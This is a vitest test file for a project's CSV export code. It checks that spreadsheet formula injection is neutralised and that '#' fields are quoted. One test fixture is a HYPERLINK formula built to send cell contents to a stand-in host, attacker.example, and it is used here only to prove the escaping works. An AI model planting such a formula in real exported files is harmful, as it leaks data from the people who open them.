import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvTable, csvText, restoreCell, safeCell } from './csv.js';

// How rollcall's own readers read a CSV (src/engine/manual-matches.ts).
const read = (text: string) => parse(text, { bom: true, skip_empty_lines: true, trim: true, comment: '#' }) as string[][];

describe('the CSV files rollcall writes', () => {
  it('neutralises every cell a spreadsheet would take as a formula, and only those', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(safeCell(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(safeCell('Ava')).toBe('Ava');
    expect(safeCell("O'Brien")).toBe("O'Brien");
    expect(safeCell(undefined)).toBe('');
    expect(safeCell(7)).toBe('7');
    for (const v of ['=1', '+44', '-x@y.example', '@SUM(A1)', 'plain', "'quoted"]) expect(restoreCell(safeCell(v))).toBe(v);
  });

  it('writes a formula in a name as text, quoted, in rows and in comment lines', () => {
    const evil = '=HYPERLINK("http://attacker.example/?"&A1,"Ava")';
    const text = csvText(['misId', 'name'], [{ comment: ['likely', evil, 'line\nbreak'] }, { row: ['student:1', evil] }]);
    const cells = text.split('\n').flatMap((l) => parse(l.replace(/^# /, ''), { relax_quotes: true }) as string[][]).flat();
    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""Ava"")"`);
    // A comment stays one line whatever the name holds, so the reader skips all of it.
    expect(read(text)).toEqual([['misId', 'name'], ['student:1', `'${evil}`]]);
  });

  it('quotes a field holding # so the reader does not cut it as a comment', () => {
    const text = csvTable(['misId', 'userPrincipalName'], [['student:1', 'jo_home.example#EXT#@school.example']]);
    expect(read(text)).toEqual([['misId', 'userPrincipalName'], ['student:1', 'jo_home.example#EXT#@school.example']]);
  });
});
